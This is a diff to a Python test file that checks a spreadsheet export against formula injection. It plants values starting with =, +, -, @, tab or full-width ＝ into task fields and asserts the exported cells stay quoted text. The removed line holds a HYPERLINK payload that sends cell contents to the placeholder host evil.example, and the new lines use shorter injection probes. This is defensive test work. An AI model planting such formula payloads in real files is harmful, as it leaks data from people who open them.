@@ -18,7 +18,7 @@ from tests.factories import UserFactory
 
 # Each start Excel, WPS or LibreOffice takes for a formula; full-width ＝ is what a Chinese input method types.
 STARTS = ["=", "+", "-", "@", "\t", "＝"]
-PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+PAYLOAD = 'HYPERLINK("//x")'  # short: the key task number holds 20 characters, the metric unit 10
 
 
 @pytest.fixture(params=STARTS, ids=["equals", "plus", "minus", "at", "tab", "full-width-equals"])
@@ -39,7 +39,7 @@ def hostile(start, org, committee, secretary_a, assignment_a1):
     key_task = assignment_a1.key_task
     key_task.number = planted("1.2")
     key_task.title = planted("标题")
-    key_task.metric_unit = planted("项")
+    key_task.metric_unit = f"{start}SUM(1)"
     key_task.save()
     key_task.area.name = planted("政治建设")
     key_task.area.save()
@@ -68,7 +68,11 @@ def assert_text_only(content: bytes, start: str) -> set[str]:
     found = set()
     for sheet, header, cell in cells(content):
         assert cell.data_type != "f", f"{sheet}!{cell.coordinate} is a formula: {cell.value!r}"
-        if isinstance(cell.value, str) and cell.value.startswith(start) and PAYLOAD in cell.value:
+        if (
+            isinstance(cell.value, str)
+            and cell.value.startswith(start)
+            and ("HYPERLINK" in cell.value or "SUM(1)" in cell.value)
+        ):
             assert cell.data_type == "s" and cell.quotePrefix, f"{sheet}!{cell.coordinate} {header}"
             found.add(header)
     return found
